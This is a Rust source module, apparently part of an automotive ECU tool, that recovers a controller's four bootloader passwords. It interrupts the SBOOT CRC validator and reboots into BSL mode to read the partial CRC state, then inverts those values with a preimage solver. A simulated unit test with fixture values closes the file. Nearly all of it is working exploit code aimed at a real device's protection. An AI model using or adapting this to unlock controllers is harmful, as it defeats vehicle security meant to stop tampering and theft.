//! Boot password recovery via the CRC oracle
//!
//! The validator's CRC primitive is the only thing in SBOOT that will touch
//! the password words for us. Interrupting it mid-run leaves two words in
//! RAM: the address it reached and the running CRC32. Pointing four probes
//! at the four adjacent password words and collecting those pairs gives the
//! preimage solver enough to invert the passwords.
//!
//! Every probe costs a full induction, because the trigger reboots the
//! device into BSL mode; nothing survives to the next round.

use tracing::info;

use crate::bsl::upload::upload_bsl;
use crate::bsl::memory;
use crate::device::Device;
use crate::error::Result;
use crate::flash::BOOT_PASSWORD_ADDRS;
use crate::hexstr;
use crate::sboot::{self, InductionMode};

/// One oracle measurement.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProbeResult {
    /// Word the CRC range started at.
    pub start_addr: u32,
    /// Address the validator reached before the reboot cut it off.
    pub end_addr: u32,
    /// Running CRC32 at that point.
    pub crc: u32,
}

impl ProbeResult {
    /// Number of bytes the interrupted run actually covered.
    pub fn range_len(&self) -> u32 {
        self.end_addr.wrapping_sub(self.start_addr)
    }
}

/// Run one probe against an already logged-in shell: program the record,
/// trigger the validator, ride the reboot into BSL and read the two result
/// words.
pub fn run_probe(dev: &mut Device, start_addr: u32) -> Result<ProbeResult> {
    sboot::program_crc_probe(dev, start_addr)?;
    upload_bsl(dev, true)?;

    let (end_addr_loc, crc_loc) = dev.variant.oracle_result_addrs();
    let end_addr = memory::read32(dev, end_addr_loc)?;
    println!("CRC Address Reached:");
    println!("{end_addr:#x}");
    let crc = memory::read32(dev, crc_loc)?;
    println!("CRC32 Current Value:");
    println!("{crc:#x}");

    Ok(ProbeResult { start_addr, end_addr, crc })
}

/// Extract all four boot passwords. Four full induction/probe/upload/read
/// cycles, in password-word order, then one solver invocation.
pub fn extract_boot_passwords(dev: &mut Device) -> Result<[u32; 4]> {
    let mut probes = Vec::with_capacity(BOOT_PASSWORD_ADDRS.len());
    for &addr in &BOOT_PASSWORD_ADDRS {
        sboot::login(dev, InductionMode::Tolerant)?;
        let probe = run_probe(dev, addr)?;
        println!(
            "{:08x} - {:#x} - {:#x} -> {:#x}",
            probe.start_addr,
            probe.end_addr,
            probe.range_len(),
            probe.crc
        );
        info!(
            start = format_args!("{:#010x}", probe.start_addr),
            end = format_args!("{:#010x}", probe.end_addr),
            crc = format_args!("{:#010x}", probe.crc),
            "probe complete"
        );
        probes.push(probe);
    }

    let passwords = dev.crc_solver.solve(&probes)?;
    println!("{}", hexstr::encode(&passwords.to_bytes()));
    Ok(passwords.0)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::flash::TargetVariant;
    use crate::sim::{sim_device, FixedPreimageSolver, SimEcu};
    use std::cell::RefCell;
    use std::fs;
    use std::rc::Rc;

    #[test]
    fn test_four_probe_cycles_in_address_order() {
        let sim = SimEcu::new(TargetVariant::Simos8);
        let fixtures = [
            (0x8001_420Cu32, 0x8001_430Cu32, 0x1111_1111u32),
            (0x8001_4210, 0x8001_4310, 0x2222_2222),
            (0x8001_4214, 0x8001_4314, 0x3333_3333),
            (0x8001_4218, 0x8001_4318, 0x4444_4444),
        ];
        for (start, end, crc) in fixtures {
            sim.set_probe_result(start, end, crc);
        }

        let mut dev = sim_device(&sim);
        let dir = tempfile::tempdir().unwrap();
        let image_path = dir.path().join("bootloader.bin");
        fs::write(&image_path, vec![0x90u8; 64]).unwrap();
        dev.config.bsl_image = image_path;

        let seen = Rc::new(RefCell::new(Vec::new()));
        dev.crc_solver = Box::new(FixedPreimageSolver {
            passwords: [0xAAAA_0001, 0xAAAA_0002, 0xAAAA_0003, 0xAAAA_0004],
            seen: Rc::clone(&seen),
        });

        let passwords = extract_boot_passwords(&mut dev).unwrap();
        assert_eq!(passwords, [0xAAAA_0001, 0xAAAA_0002, 0xAAAA_0003, 0xAAAA_0004]);

        // Exactly four full cycles: induction, BSL upload, result reads.
        assert_eq!(sim.inductions(), 4);
        assert_eq!(sim.upload_inits(), 4);

        // The solver saw the fixture pairs in address order.
        let seen = seen.borrow();
        assert_eq!(seen.len(), 4);
        for (probe, (start, end, crc)) in seen.iter().zip(fixtures) {
            assert_eq!(probe.start_addr, start);
            assert_eq!(probe.end_addr, end);
            assert_eq!(probe.crc, crc);
            assert_eq!(probe.range_len(), 0x100);
        }
    }
}
